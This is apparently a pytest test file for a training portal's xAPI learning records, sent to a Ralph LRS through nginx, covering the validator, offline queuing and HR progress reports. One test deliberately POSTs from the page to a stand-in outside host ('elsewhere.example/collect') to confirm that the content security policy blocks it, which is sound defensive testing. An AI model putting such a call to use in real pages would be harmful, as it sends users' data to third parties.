"""Learning records: xAPI statements from the site to the company's own LRS, through its web server.

The LRS is Ralph and the web server nginx with the README's configuration, both started here on
free loopback ports; the browser is Debian's Chromium.
"""

from __future__ import annotations

import json

import pytest
from browser_support import REPO, copy_sample, screenshot
from conftest import run_portal
from xapi_support import NGINX, RALPH_PASSWORD, RALPH_USER, SITE, all_statements, nginx, ralph, ralph_available

from generator.build import build
from generator.validate import validate

SSO_RECORDS = """\
learning_records:
  endpoint: /xapi/
  auth: proxy
  identity: sso
  identity_endpoint: /xapi/whoami
"""


def with_records(root, block: str = SSO_RECORDS) -> None:
    config = root / "content" / "portal.yml"
    config.write_text(config.read_text("utf-8") + block, "utf-8")


@pytest.mark.parametrize(("block", "expected"), [
    ("learning_records:\n  endpoint: ftp://lrs.example.com/\n  identity: sso\n",
     "'ftp://lrs.example.com/' is not in the expected form"),
    ("learning_records:\n  endpoint: /xapi/\n  auth: token\n  identity: sso\n", "auth"),
    ("learning_records:\n  endpoint: https://lrs.example.com/xAPI/\n  auth: basic\n  identity: sso\n",
     "auth: basic needs `credential_env`"),
    ("learning_records:\n  endpoint: https://lrs.example.com/xAPI/\n  auth: basic\n  credential_env: NO_SUCH_VAR\n"
     "  identity: sso\n", "the environment variable NO_SUCH_VAR is not set to an LRS credential"),
    ("learning_records:\n  endpoint: /xapi/\n  identity: email\n", "identity: email needs `email_domains`"),
    ("learning_records:\n  endpoint: https://lrs.example.com/xAPI/\n  identity: sso\n",
     "auth: proxy means the portal's own web server forwards the records"),
    ("learning_records:\n  endpoint: http://lrs.example.com/xAPI/\n  auth: basic\n  credential_env: HOME\n"
     "  identity: sso\n", "the LRS must be reached over https://"),
])
def test_a_malformed_learning_records_block_is_a_located_error(sample, runner, block, expected):
    with_records(sample, block)
    lines = (sample / "content" / "portal.yml").read_text("utf-8").count("\n") - block.count("\n")
    result = run_portal(runner, sample, "validate")
    assert result.exit_code == 1, result.output
    located = [line for line in result.output.splitlines() if expected in line]
    assert located, result.output
    line = int(located[0].split(":")[1])
    assert lines < line <= lines + block.count("\n"), "pointed at the block's own lines"


def test_learning_records_need_a_site_url(sample, runner):
    config = sample / "content" / "portal.yml"
    config.write_text(config.read_text("utf-8").replace("site_url: https://learn.jua-energy.example/\n", ""), "utf-8")
    with_records(sample)
    result = run_portal(runner, sample, "validate")
    assert result.exit_code == 1 and "learning records need `site_url`" in result.output


def test_without_learning_records_the_site_has_no_records_script(sample):
    from generator.learning import RECORDS_SCRIPT
    from generator.project import mkdocs_config, read_theme_config
    from generator.render import Renderer

    portal, problems = validate(sample)
    assert portal is not None and not problems.errors
    renderer = Renderer(portal)
    assert RECORDS_SCRIPT not in renderer.render()
    config = mkdocs_config(portal, read_theme_config(sample), renderer, docs_dir=sample / "docs",
                           site_dir=sample / "site")
    assert "portal_records" not in config["extra"]
    assert not any("records" in script for script in config.get("extra_javascript", []))


needs_servers = pytest.mark.skipif(not (ralph_available() and NGINX.exists()),
                                   reason="Ralph (.venv-lrs) and nginx are installed by .ci/lrs")


@pytest.fixture(scope="module")
def portal_site(tmp_path_factory):
    """The sample with learning records on (single sign-on, through nginx), one policy to acknowledge."""
    root = copy_sample(tmp_path_factory.mktemp("records") / "repo")
    with_records(root)
    tone = root / "content" / "playbooks" / "tone.yml"
    tone.write_text(tone.read_text("utf-8").replace(
        "kind: tone\n", 'kind: tone\nacknowledge:\n  text: "I have read the tone of voice rules and will write by '
        'them."\n  version: 2026-12-01\n', 1), "utf-8")
    site = root.parent / "site"
    build(root, site)
    return site


@pytest.fixture
def servers(portal_site, tmp_path):
    with ralph(tmp_path / "lrs") as lrs_base, \
            nginx(tmp_path / "nginx", portal_site, lrs_base, f"{RALPH_USER}:{RALPH_PASSWORD}") as portal_url:
        yield portal_url, lrs_base


@pytest.fixture(scope="module")
def browser():
    from browser_support import chromium

    with chromium() as launched:
        yield launched


def employee(browser, portal_url, who="amina@jua-energy.example"):
    """A browser context whose requests carry the header the company's single sign-on would add."""
    return browser.new_context(base_url=portal_url, viewport={"width": 1280, "height": 800},
                               extra_http_headers={"X-Remote-User": who})


def wait_for_queue_empty(page):
    page.wait_for_function("() => JSON.parse(localStorage.getItem('advocacy-portal:xapi-queue') || '[]').length === 0",
                           timeout=30000)


@needs_servers
def test_opening_a_lesson_and_acknowledging_a_policy_are_recorded_with_version_and_fingerprint(browser, servers):
    portal_url, lrs_base = servers
    context = employee(browser, portal_url)
    foreign = []
    context.on("request", lambda r: r.url.startswith(portal_url) or r.url.startswith("data:") or foreign.append(r.url))
    page = context.new_page()
    page.goto("lessons/answering-fast/")
    page.get_by_text("Your learning is recorded as amina@jua-energy.example").wait_for()
    wait_for_queue_empty(page)
    violated = page.evaluate("""() => new Promise(resolve => {
        document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
        fetch('https://elsewhere.example/collect', {method: 'POST', body: 'x'}).catch(() => {});
        setTimeout(() => resolve('not blocked'), 5000);
    })""")
    assert violated == "connect-src", "the page may connect to its own host (and the LRS) only"
    page.goto("playbooks/tone/")
    page.get_by_role("button", name="I confirm").click()
    page.get_by_text("You confirmed this on").wait_for()
    wait_for_queue_empty(page)
    screenshot(page, "records-acknowledgement")
    context.close()
    assert not foreign, f"requests to other hosts: {foreign}"
    statements = all_statements(lrs_base)
    by_verb = {s["verb"]["id"].rsplit("/", 1)[-1] + " " + s["object"]["id"].rsplit("/", 2)[-2]: s for s in statements}
    assert len(statements) == 3, [s["verb"]["id"] for s in statements]
    opened = by_verb["experienced lessons"]
    assert opened["actor"]["account"] == {"homePage": "https://sso.jua-energy.example",
                                          "name": "amina@jua-energy.example"}
    assert opened["object"]["id"] == SITE + "xapi/activities/lessons/answering-fast"
    assert opened["object"]["definition"]["name"] == {"en": "Answering fast"}
    fingerprint = validate(REPO)[0].lessons["answering-fast"].fingerprint
    assert opened["context"]["extensions"][SITE + "xapi/extensions/fingerprint"] == fingerprint
    agreed = by_verb["agree playbooks"]
    assert agreed["object"]["id"] == SITE + "xapi/activities/playbooks/tone"
    assert agreed["context"]["extensions"][SITE + "xapi/extensions/version"] == "2026-12-01"
    assert agreed["timestamp"].endswith("Z"), "the browser stamps each statement when it is made"


@needs_servers
def test_statements_made_while_the_lrs_is_down_arrive_later_exactly_once(browser, portal_site, tmp_path):
    folder = tmp_path / "lrs"
    with ralph(folder) as lrs_base:
        port = int(lrs_base.split(":")[2].split("/")[0])
    # The LRS is down now; nginx answers 502 for it.
    with nginx(tmp_path / "nginx", portal_site, lrs_base, f"{RALPH_USER}:{RALPH_PASSWORD}") as portal_url:
        context = employee(browser, portal_url, "baraka@jua-energy.example")
        page = context.new_page()
        for lesson in ("answering-fast", "why-employees-matter", "owning-complaints-in-public"):
            page.goto(f"lessons/{lesson}/")
            page.get_by_text("record(s) will be sent when the connection is back").wait_for(timeout=30000)
        queued = page.evaluate("() => JSON.parse(localStorage.getItem('advocacy-portal:xapi-queue')).map(s => s.id)")
        assert len(queued) == 3 and len(set(queued)) == 3
        page.locator(".portal-records").screenshot(path=str(tmp_path / "offline.png"))
        with ralph(folder, port=port):
            page.evaluate("() => window.dispatchEvent(new Event('online'))")
            wait_for_queue_empty(page)
            page.reload()  # a fresh page sends nothing again
            wait_for_queue_empty(page)
            stored = all_statements(lrs_base)
        context.close()
    ids = [s["id"] for s in stored]
    assert len(ids) == len(set(ids)), "no statement is stored twice"
    assert set(queued) <= set(ids), "every statement made offline arrived"
    assert len(ids) == 4, "three lessons opened offline, and the reload's"


@needs_servers
def test_an_employee_s_whole_session_is_recorded_and_hr_sees_it(browser, servers, portal_site, tmp_path, runner,
                                                               monkeypatch):
    """Identify, open a lesson, fail then pass its check, share a post, acknowledge the policy:
    Ralph holds each statement, and `portal progress` on the same Ralph shows who is done."""
    from browser_support import right_answers

    portal_url, lrs_base = servers
    context = employee(browser, portal_url)
    page = context.new_page()
    page.goto("lessons/answering-fast/")
    page.get_by_text("Your learning is recorded as amina@jua-energy.example").wait_for()
    check = page.locator("[data-portal-check]")
    right = right_answers("answering-fast", REPO)
    fieldsets = check.locator("fieldset").all()
    for fieldset, correct in zip(fieldsets, right, strict=True):  # the first answer wrong, the rest right
        options = fieldset.locator("input").all()
        wrong = next(o for o in options if o.get_attribute("value") != correct)
        (wrong if fieldset == fieldsets[0] else fieldset.locator(f'input[value="{correct}"]')).check()
    page.get_by_role("button", name="Check my answers").click()
    page.get_by_role("button", name="Try again").click()
    for fieldset, correct in zip(check.locator("fieldset").all(), right, strict=True):
        fieldset.locator(f'input[value="{correct}"]').check()
    page.get_by_role("button", name="Check my answers").click()
    page.get_by_text("This lesson is complete").wait_for()
    page.goto("share/")
    share = page.locator("[data-share-link]").first
    share.evaluate("link => link.addEventListener('click', event => event.preventDefault())")  # stay here
    share.click()
    page.goto("playbooks/tone/")
    page.get_by_role("button", name="I confirm").click()
    wait_for_queue_empty(page)
    context.close()
    statements = all_statements(lrs_base)
    verbs = [s["verb"]["id"].rsplit("/", 1)[-1] for s in statements]
    assert verbs.count("answered") == 2 * len(right), "each answer of both attempts"
    assert verbs.count("failed") == 1 and verbs.count("passed") == 1
    for s in statements:
        assert s["actor"]["account"]["name"] == "amina@jua-energy.example"
    passed = next(s for s in statements if s["verb"]["id"].endswith("/passed"))
    assert passed["result"]["score"] == {"raw": len(right), "min": 0, "max": len(right), "scaled": 1.0}
    assert passed["object"]["id"] == SITE + "xapi/activities/lessons/answering-fast/check"
    failed = next(s for s in statements if s["verb"]["id"].endswith("/failed"))
    assert failed["result"]["success"] is False and failed["result"]["score"]["raw"] == len(right) - 1
    completed = [s for s in statements if s["verb"]["id"].endswith("/completed")]
    assert [s["object"]["id"].rsplit("/", 2)[-2:] for s in completed] == [["lessons", "answering-fast"]]
    shared = next(s for s in statements if s["verb"]["id"].endswith("/shared"))
    assert shared["object"]["id"].startswith(SITE + "xapi/activities/posts/")
    assert shared["context"]["extensions"][SITE + "xapi/extensions/network"]
    assert any(s["verb"]["id"].endswith("/agree") for s in statements)

    roster = tmp_path / "people.csv"
    roster.write_text("email,name,role,start_date\n"
                      "amina@jua-energy.example,Amina Odhiambo,customer-service-agent,2026-11-02\n"
                      "baraka@jua-energy.example,Baraka Mwangi,customer-service-agent,2026-11-02\n"
                      "chen@jua-energy.example,Chen Wei,customer-service-agent,2026-12-28\n", "utf-8")
    monkeypatch.setenv("PORTAL_LRS_CREDENTIAL", f"{RALPH_USER}:{RALPH_PASSWORD}")
    result = run_portal(runner, portal_site.parent / "repo", "progress", "--roster", str(roster), "--lrs", lrs_base,
                        "--today", "2026-12-15", "--format", "json")
    assert result.exit_code == 0, result.output
    people = {p["email"]: p for p in json.loads(result.output)["people"]}
    amina = {row["lesson"]: row for row in people["amina@jua-energy.example"]["lessons"]}
    assert amina["answering-fast"]["status"] == "done" and amina["answering-fast"]["score"] == 1.0
    acks = {ack["item"]: ack for ack in people["amina@jua-energy.example"]["acknowledgements"]}
    assert acks["playbooks/tone"]["status"] == "acknowledged" and acks["playbooks/tone"]["version"] == "2026-12-01"
    assert acks["lessons/your-accounts-your-voice"]["status"] == "missing", "the sample's own policy, not confirmed"
    baraka = people["baraka@jua-energy.example"]
    assert baraka["counts"]["overdue"] > 0 and not baraka["started"]
    assert people["chen@jua-energy.example"]["counts"]["overdue"] == 0, "starts later: nothing due yet"


@pytest.fixture(scope="module")
def email_site(tmp_path_factory):
    """An English-only copy of the sample whose employees identify with their work e-mail."""
    import re

    root = copy_sample(tmp_path_factory.mktemp("records-email") / "repo")
    for translation in root.joinpath("content").rglob("*.*.*"):
        if translation.suffixes[0] in (".sw", ".el", ".zh", ".ur"):
            translation.unlink()
    config = root / "content" / "portal.yml"
    text = re.sub(r"\nlanguages:.*?\n(?=\S)", "\n", config.read_text("utf-8"), flags=re.S)
    config.write_text(text, "utf-8")
    with_records(root, "learning_records:\n  endpoint: /xapi/\n  identity: email\n"
                       "  email_domains: [jua-energy.example]\n")
    site = root.parent / "site"
    build(root, site)
    return site


@needs_servers
def test_an_employee_gives_their_work_e_mail_once_and_it_is_checked(browser, email_site, tmp_path):
    with ralph(tmp_path / "lrs") as lrs_base, \
            nginx(tmp_path / "nginx", email_site, lrs_base, f"{RALPH_USER}:{RALPH_PASSWORD}") as portal_url:
        context = browser.new_context(base_url=portal_url, viewport={"width": 375, "height": 740}, is_mobile=True)
        requested = []
        context.on("request", lambda r: requested.append(r.url))
        page = context.new_page()
        page.goto("lessons/answering-fast/")
        field = page.get_by_label("Work e-mail (an address at jua-energy.example)")
        field.fill("amina@gmail.example")
        field.press("Enter")
        page.get_by_text("Use your work address at jua-energy.example.").wait_for()
        assert field.get_attribute("aria-invalid") == "true"
        screenshot(page, "records-email-phone", full_page=False)
        field.fill("Amina@Jua-Energy.example")
        page.get_by_role("button", name="Save").click()
        page.get_by_text("Your learning is recorded as amina@jua-energy.example").wait_for()
        wait_for_queue_empty(page)
        page.goto("lessons/why-employees-matter/")
        page.get_by_text("Your learning is recorded as amina@jua-energy.example").wait_for()
        wait_for_queue_empty(page)
        scroll = page.evaluate("() => document.scrollingElement.scrollWidth - window.innerWidth")
        context.close()
        stored = all_statements(lrs_base)
    assert scroll <= 0, "nothing scrolls sideways on a phone"
    assert [s["actor"]["mbox"] for s in stored] == ["mailto:amina@jua-energy.example"] * 2, \
        "the lesson opened before the address was given is recorded too, under it"
    assert not any("whoami" in url for url in requested)
